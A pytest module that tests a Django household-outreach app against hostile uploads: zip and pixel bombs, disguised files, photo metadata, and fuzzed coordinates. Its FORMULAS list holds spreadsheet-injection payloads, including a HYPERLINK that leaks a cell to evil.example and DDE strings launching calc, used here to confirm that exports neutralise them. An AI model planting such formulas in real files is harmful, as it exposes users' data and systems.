"""The household list, photos and coordinates fed hostile input (cnsc/core/tests/corpus): every
file is refused with a message or read as data, nothing is half-written, text that looks like
a formula goes out of the export as text, photos leave without their metadata, and no view
answers 500."""

from __future__ import annotations

import io
import struct
import unicodedata
import zlib
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from PIL import Image

from cnsc.core.spreadsheets import ImportFileError
from cnsc.core.tests.corpus import CORPUS, deflate_bomb
from cnsc.geo.models import MAX_LAT, MAX_LON, MIN_LAT, MIN_LON
from cnsc.outreach.models import Household, Resident, ServiceEvent, ServiceState, Visit
from cnsc.outreach.services import clean_point, photo_clean
from cnsc.outreach.tests.factories import image_bytes, record
from cnsc.outreach.tests.test_household_import import csv_file, family, row, run, xlsx_file

pytestmark = pytest.mark.django_db

IMPORT = reverse("outreach:household_import")
EXPORT = reverse("outreach:household_export")
HOSTILE_FILES = [
    "bomb_bzip2.xlsx",
    "laughs.xlsx",
    "huge_row_number.xlsx",
    "broken_sheet.xlsx",
    "lying_sizes.xlsx",
    "html.jpg",
    "script.svg",
    "gps.jpg",
    "pixel_bomb.png",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def nothing_written() -> None:
    assert not Household.objects.exists()
    assert not Resident.objects.exists()
    assert not ServiceState.objects.exists()
    assert not ServiceEvent.objects.exists()


@pytest.mark.parametrize("name", HOSTILE_FILES)
@pytest.mark.parametrize("apply", [False, True])
def test_hostile_files_are_refused_with_a_message_and_write_nothing(
    name, apply, hamlet, team, official
):
    with pytest.raises(ImportFileError):
        run((CORPUS / name).read_bytes(), hamlet.commune, official, apply=apply)
    nothing_written()


def test_a_zip_bomb_is_refused_by_the_import(hamlet, team, official):
    with pytest.raises(ImportFileError, match="unpacks to far more data"):
        run(deflate_bomb(), hamlet.commune, official, apply=True)
    nothing_written()


def test_a_file_that_breaks_after_good_rows_writes_nothing(hamlet, team, official):
    # 3,000 good rows, then bytes that are not UTF-8: the error comes while rows are staged.
    good = [
        row(household_code=f"H{n}", house_number=str(n), full_name=f"Người {n}")
        for n in range(3000)
    ]
    data = csv_file(good) + b"Khu ph\xf4 1,B\xecnh\r\n"
    with pytest.raises(ImportFileError, match="UTF-8"):
        run(data, hamlet.commune, official, apply=True)
    nothing_written()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formulas_are_stored_as_text_and_exported_as_text(
    fmt, client_of, official, hamlet, team, settings, tmp_path
):
    rows = [
        row(household_code=f"F{i}", house_number=str(i), full_name=formula, street=formula)
        for i, formula in enumerate(FORMULAS)
    ]
    data = csv_file(rows) if fmt == "csv" else xlsx_file(rows)
    if fmt == "xlsx":
        # openpyxl writes a string starting with "=" as a formula; a spreadsheet program
        # would too. Such a cell is read as its cached value: none, so the name is missing.
        result = run(data, hamlet.commune, official, apply=True)
        assert not result.applied
        nothing_written()
        return
    result = run(data, hamlet.commune, official, apply=True)
    assert result.applied, result.errors
    names = set(Resident.objects.values_list("full_name", flat=True))
    assert names == {" ".join(f.split()) for f in FORMULAS}
    response = client_of(official).post(EXPORT, {"commune": hamlet.commune.pk})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [c for r in sheet.iter_rows(min_row=2) for c in r]
    assert cells
    assert all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t"))]
    assert "'=cmd|' /C calc'!A0" in texts


def test_decomposed_letters_and_a_bom_import_as_the_same_people(hamlet, team, official):
    nfc_file = csv_file(family(), bom=False)
    nfd_file = unicodedata.normalize("NFD", nfc_file.decode()).encode()
    assert nfd_file != nfc_file
    first = run(nfd_file, hamlet.commune, official, apply=True)
    assert first.applied, first.errors
    names = sorted(Resident.objects.values_list("full_name", flat=True))
    assert all(unicodedata.is_normalized("NFC", n) for n in names)
    again = run(b"\xef\xbb\xbf" + nfc_file, hamlet.commune, official, apply=True)
    assert again.counts["residents_create"] == 0
    assert again.counts["households_create"] == 0
    assert sorted(Resident.objects.values_list("full_name", flat=True)) == names


def test_a_row_of_100000_columns_is_read_without_trouble(hamlet, team, official):
    data = csv_file([row() + ["x"] * 100_000])
    result = run(data, hamlet.commune, official)
    assert result.ok, result.errors
    assert result.counts["residents_create"] == 1


def test_a_nul_byte_in_a_csv_is_refused_before_the_database_sees_it(hamlet, team, official):
    with pytest.raises(ImportFileError):
        run(csv_file([row(full_name="An\x00Bình")]), hamlet.commune, official, apply=True)
    nothing_written()


@pytest.mark.parametrize("name", HOSTILE_FILES)
def test_the_import_page_never_answers_500(name, client_of, official, hamlet, team):
    upload = SimpleUploadedFile(name, (CORPUS / name).read_bytes())
    page = client_of(official).post(IMPORT, {"commune": hamlet.commune.pk, "file": upload})
    assert page.status_code == 200
    assert page.context["form"].errors["file"]
    nothing_written()


# --- Photos ---------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["html.jpg", "script.svg", "pixel_bomb.png"])
def test_files_that_are_not_photos_are_refused(name):
    with pytest.raises(ValidationError) as error:
        photo_clean((CORPUS / name).read_bytes())
    assert error.value.error_dict["photos"][0].code in {"photo_type", "photo_too_large"}


@pytest.mark.parametrize("kind", ["GIF", "BMP", "TIFF", "ICO", "PPM"])
def test_images_pillow_reads_but_a_phone_never_sends_are_refused(kind):
    # Pillow opens dozens of formats, some of them old and brittle: only JPEG, PNG and WebP,
    # what a phone's camera and Telegram produce, are accepted (named .jpg or not).
    data = io.BytesIO()
    Image.new("RGB", (32, 32), "red").save(data, format=kind)
    with pytest.raises(ValidationError) as error:
        photo_clean(SimpleUploadedFile("photo.jpg", data.getvalue(), "image/jpeg"))
    assert error.value.error_dict["photos"][0].code == "photo_type"


def png_claiming(width: int, height: int) -> bytes:
    """A PNG whose header claims ``width`` by ``height`` pixels over a few bytes of data."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + chunk(b"IEND", b"")
    )


def test_a_photo_of_more_pixels_than_allowed_is_refused_before_it_is_decoded():
    # 60 megapixels: below Pillow's own decompression-bomb limit (89 million), above ours.
    with pytest.raises(ValidationError) as error:
        photo_clean(png_claiming(10_000, 6_000))
    assert error.value.error_dict["photos"][0].code == "photo_too_large"


def test_a_photo_leaves_without_its_place_phone_owner_or_comment():
    original = (CORPUS / "gps.jpg").read_bytes()
    with Image.open(io.BytesIO(original)) as before:
        assert before.getexif().get_ifd(0x8825)  # the corpus photo does carry GPS
    clean = photo_clean(original).content.read()
    with Image.open(io.BytesIO(clean)) as after:
        assert after.format == "JPEG"
        assert after.size == (640, 480)
        assert not after.getexif()
        assert not after.getexif().get_ifd(0x8825)
        assert "exif" not in after.info
        assert "comment" not in after.info
    for secret in (b"PhoneMaker", b"Model 7", "Nguyễn".encode(), b"<script>", b"GPS"):
        assert secret not in clean


def test_a_png_leaves_without_its_text_chunks():
    clean = photo_clean((CORPUS / "text_chunks.png").read_bytes()).content.read()
    with Image.open(io.BytesIO(clean)) as after:
        assert not {k for k in after.info if k not in ("dpi", "gamma")} - {"transparency"}
    assert b"079085012345" not in clean
    assert b"xmpmeta" not in clean


def test_a_visit_stores_the_cleaned_photo_only(member, household, settings):
    visit = record(member, household, photos=[(CORPUS / "gps.jpg").read_bytes()])
    [photo] = visit.photos.all()
    stored = photo.file.read()
    assert b"PhoneMaker" not in stored
    assert not Image.open(io.BytesIO(stored)).getexif()


fuzz = settings(
    max_examples=150, deadline=None, database=None, suppress_health_check=list(HealthCheck)
)
PHOTO = image_bytes("JPEG", (32, 24), exif=Image.Exif())


@fuzz
@given(
    st.binary(max_size=4096)
    | st.builds(
        lambda at, b: PHOTO[:at] + b + PHOTO[at + len(b) :],
        st.integers(0, len(PHOTO)),
        st.binary(min_size=1, max_size=64),
    )
)
@example(b"")
@example(PHOTO[:200])
def test_any_bytes_are_a_clean_photo_or_a_validation_error(data):
    try:
        photo = photo_clean(data)
    except ValidationError:
        return
    with Image.open(io.BytesIO(photo.content.read())) as image:
        assert not image.getexif()


# --- Coordinates ----------------------------------------------------------------------------

NUMBERS = st.one_of(
    st.floats(allow_nan=True, allow_infinity=True),
    st.integers(min_value=-(10**400), max_value=10**400),
    st.decimals(allow_nan=True, allow_infinity=True),
    st.text(max_size=12),
    st.none(),
    st.booleans(),
)
POINTS: Any = st.one_of(
    st.tuples(NUMBERS, NUMBERS),
    st.tuples(st.floats(MIN_LAT, MAX_LAT), st.floats(MIN_LON, MAX_LON)),
    st.lists(NUMBERS, max_size=3),
    st.dictionaries(st.integers(0, 2), NUMBERS, max_size=2),
    st.text(max_size=4),
    st.none(),
)


@fuzz
@given(POINTS)
@example((10**400, 106.0))
@example({0: 10.9, 1: 106.6})
@example({"lat": 10.9})
@example(("10.98", "106.65"))
def test_a_point_is_in_vietnam_or_a_validation_error(point):
    try:
        lat, lon = clean_point(point)
    except ValidationError as exc:
        codes = {e.code for e in exc.error_dict["point"]}
    else:
        codes = set()
    if codes:
        assert codes <= {"point_invalid", "point_outside"}
    elif point is None:
        assert (lat, lon) == (None, None)
    else:
        assert MIN_LAT <= lat <= MAX_LAT
        assert MIN_LON <= lon <= MAX_LON
        assert clean_point((lat, lon)) == (lat, lon)


def test_a_visit_with_an_unreadable_point_stores_nothing(member, household):
    with pytest.raises(ValidationError):
        record(member, household, point=(10**400, 106.0))
    with pytest.raises(ValidationError):
        record(member, household, point=(10.98, 106.65), accuracy_m=10**400)
    assert not Visit.objects.exists()
